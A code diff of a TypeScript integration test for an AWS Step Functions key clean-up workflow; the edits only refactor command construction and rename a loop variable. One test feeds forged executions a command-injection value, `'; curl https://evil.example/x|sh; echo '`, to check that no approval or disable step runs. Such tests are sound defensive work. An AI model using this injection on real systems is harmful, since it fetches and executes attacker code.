@@ -143,7 +143,8 @@ async function run(
   const passed = async (executionArn: string) => (await sfn.send(new GetExecutionHistoryCommand({ executionArn, maxResults: 1000 }))).events!
     .flatMap(event => (event.stateEnteredEventDetails?.name ? [event.stateEnteredEventDetails.name] : []));
   const invoke = async (FunctionName: string, event: object) => {
-    const { Payload, FunctionError } = await new LambdaClient(ministack.client).send(new InvokeCommand({ FunctionName, Payload: JSON.stringify(event) }));
+    const command = new InvokeCommand({ FunctionName, Payload: JSON.stringify(event) });
+    const { Payload, FunctionError } = await new LambdaClient(ministack.client).send(command);
     return { failed: FunctionError !== undefined, answer: JSON.parse(Buffer.from(Payload!).toString() || 'null') };
   };
   const undo = async (name: Name) => {
@@ -193,7 +194,10 @@ async function run(
     equal(kms.changes, []);
   });
   await checks.check('whoever can only start executions asks no question that the report would not ask, and never twice', async () => {
-    const forged = async (input: object, name?: string) => (await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.CleanUp, name, input: JSON.stringify(input) }))).executionArn!;
+    const forged = async (input: object, name?: string) => {
+      const command = new StartExecutionCommand({ stateMachineArn: outputs.CleanUp, name, input: JSON.stringify(input) });
+      return (await sfn.send(command)).executionArn!;
+    };
     const approved = { answer: { approved: true }, said: { go: true, subject: 'x', text: 'x' } };
     const runs = [
       await forged({ arn: arns['not tagged'], ...approved }, executionName(arns['not tagged'])),
@@ -201,9 +205,9 @@ async function run(
       await forged({ arn: arns.approved, ...approved }),
       await forged({ arn: `${arns.approved}'; curl https://evil.example/x|sh; echo '`, ...approved }),
     ];
-    for (const run of runs) {
-      await ended(run);
-      equal((await passed(run)).filter(state => /Ask|Disable|Schedule|Tell/.test(state)), []);
+    for (const forgedRun of runs) {
+      await ended(forgedRun);
+      equal((await passed(forgedRun)).filter(state => /Ask|Disable|Schedule|Tell/.test(state)), []);
     }
     equal(kms.changes, []);
   });
